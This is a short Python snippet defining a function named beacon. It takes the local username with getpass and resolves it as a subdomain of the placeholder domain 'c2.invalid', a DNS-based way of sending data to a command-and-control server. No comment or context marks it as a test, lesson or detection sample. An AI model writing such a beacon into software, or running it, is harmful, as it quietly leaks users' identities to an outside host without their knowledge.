import getpass
import socket

def beacon():
    socket.gethostbyname(getpass.getuser() + ".c2.invalid")
